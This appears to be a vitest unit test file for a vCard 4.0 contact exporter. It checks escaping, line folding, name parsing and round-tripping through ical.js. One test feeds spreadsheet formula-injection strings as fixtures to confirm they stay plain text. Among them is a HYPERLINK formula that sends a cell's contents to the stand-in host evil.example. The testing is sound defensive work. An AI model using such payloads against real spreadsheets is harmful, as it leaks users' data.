import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';
import { contactsVcard, contactVcard } from './export-vcard.ts';
import { avery, chinese, emoji, hostile, hostileName, sampleContact, sampleData, trickyNotes } from '../../../test/unit/export-samples.ts';

/** Read back with ical.js, which parses vCard 4.0 with its own design set and shares no code with the writer. */
function cards(vcf: string): ICAL.Component[] {
  const parsed = ICAL.parse(vcf);
  const list = (Array.isArray(parsed[0]) ? parsed : [parsed]) as unknown[];
  return list.map((jcard) => new ICAL.Component(jcard as never));
}

const value = (card: ICAL.Component, name: string) => card.getFirstPropertyValue(name);
const values = (card: ICAL.Component, name: string) => card.getFirstProperty(name)?.getValues() ?? [];

describe('the vCard file', () => {
  const vcf = contactsVcard(sampleData.contacts);
  const parsed = cards(vcf);

  it('holds one 4.0 card per contact, by name, with CRLF line ends', () => {
    expect(parsed.map((card) => card.name)).toEqual(['vcard', 'vcard', 'vcard', 'vcard']);
    expect(parsed.map((card) => value(card, 'version'))).toEqual(['4.0', '4.0', '4.0', '4.0']);
    expect(parsed.map((card) => value(card, 'fn'))).toEqual([hostileName, emoji.name, 'Avery Quinlan', '李雷']);
    expect(vcf.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(vcf.startsWith('BEGIN:VCARD\r\nVERSION:4.0\r\n')).toBe(true);
  });

  it('round-trips every field of a contact with commas, semicolons, quotes, backslashes and line breaks', () => {
    const card = parsed.find((c) => value(c, 'fn') === 'Avery Quinlan')!;
    expect(value(card, 'n')).toEqual(['Quinlan', 'Avery', '', '', '']);
    expect(value(card, 'org')).toBe('Fabrikam, Inc.');
    expect(value(card, 'title')).toBe('Design Lead');
    expect(value(card, 'url')).toBe('https://www.linkedin.com/in/avery-quinlan/');
    expect(value(card, 'note')).toBe(`Design lead, accessibility; talks a lot\n\n${trickyNotes}`);
    expect(values(card, 'categories')).toEqual(['mentor', 'alumni, 2019']);
    expect(String(value(card, 'rev'))).toBe('2026-11-20T16:45:00Z');
    expect(contactVcard(avery)).toContain('\r\nORG:Fabrikam\\, Inc.\r\n');
    expect(contactVcard(avery).replace(/\r\n /g, '')).toContain(
      'NOTE:Design lead\\, accessibility; talks a lot\\n\\nMet at "DevConf"\\, Berlin; table 3\\nAsk about mentoring\\, then \\\\ the rest',
    );
  });

  it('keeps hostile text as text', () => {
    const card = parsed.find((c) => value(c, 'fn') === hostileName)!;
    expect(value(card, 'org')).toBe('@SUM(1+1)');
    expect(value(card, 'title')).toBe('-2+3');
    expect(value(card, 'note')).toContain('=HYPERLINK("https://evil.example/?q="&A1,"Click me")\n\n+1 555 0100\n=1+1');
    expect(values(card, 'categories')).toEqual(['=evil']);
  });

  it('keeps non-Latin names whole, with no guessed name parts, and leaves out empty fields', () => {
    const card = parsed.find((c) => value(c, 'fn') === '李雷')!;
    expect(card.getFirstProperty('n')).toBeNull();
    expect(value(card, 'org')).toBe('腾讯');
    expect(value(card, 'title')).toBe('产品经理');
    expect(card.getFirstProperty('note')).toBeNull();
    expect(card.getFirstProperty('categories')).toBeNull();
  });

  it('folds long lines at 75 octets without cutting a character, and they unfold to the same note', () => {
    const long = sampleContact('long', '🦊 Zoë Ünal', {
      notes: `${'ü'.repeat(40)}${'😀'.repeat(30)}${'日本語'.repeat(20)}\n${'x'.repeat(200)}`,
    });
    const file = contactVcard(long);
    const bytes = new TextEncoder().encode(file);
    const decoder = new TextDecoder('utf-8', { fatal: true });
    const lines: string[] = [];
    for (let start = 0; start < bytes.length;) {
      let end = start;
      while (!(bytes[end] === 13 && bytes[end + 1] === 10)) end += 1;
      expect(end - start).toBeLessThanOrEqual(75);
      lines.push(decoder.decode(bytes.slice(start, end))); // throws on a split character
      start = end + 2;
    }
    expect(lines.filter((line) => line.startsWith(' ')).length).toBeGreaterThan(5);
    expect(value(cards(file)[0]!, 'note')).toBe(long.notes);
    expect(value(cards(contactsVcard([emoji]))[0]!, 'note')).toBe(`${emoji.headline}\n\n${emoji.notes}`);
  });

  it('is empty for no contacts', () => {
    expect(contactsVcard([])).toBe('');
  });

  it('still holds every card when names sort the same', () => {
    const twins = [sampleContact('a-2', 'Sam Lee'), sampleContact('a-1', 'sam lee')];
    expect(cards(contactsVcard(twins)).map((card) => value(card, 'url'))).toEqual([
      'https://www.linkedin.com/in/a-1/',
      'https://www.linkedin.com/in/a-2/',
    ]);
    expect(cards(contactsVcard([hostile, chinese]))).toHaveLength(2);
  });
});

describe('the name in N and NICKNAME', () => {
  it('escapes the parts in N', () => {
    const card = cards(contactVcard(sampleContact('jo', 'Jo;Ann Smith, Jr.')))[0]!;
    expect(value(card, 'n')).toEqual(['Smith', 'Jo;Ann', '', '', 'Jr.']);
  });

  it('writes the e-mail address when there is one', () => {
    const card = cards(contactVcard({ ...avery, email: 'avery.quinlan@example.org' }))[0]!;
    expect(value(card, 'email')).toBe('avery.quinlan@example.org');
    expect(cards(contactVcard(avery))[0]!.getFirstProperty('email')).toBeNull();
  });

  it('writes prefixes, particles and the nickname where they belong, and FN as shown', () => {
    const card = cards(contactVcard(sampleContact('chen', 'Dr. Chen (Sarah) van Song 🚀')))[0]!;
    expect(value(card, 'fn')).toBe('Dr. Chen (Sarah) van Song 🚀');
    expect(value(card, 'n')).toEqual(['van Song', 'Chen', '', 'Dr.', '']);
    expect(value(card, 'nickname')).toBe('Sarah');
    expect(cards(contactVcard(avery))[0]!.getFirstProperty('nickname')).toBeNull();
  });
});
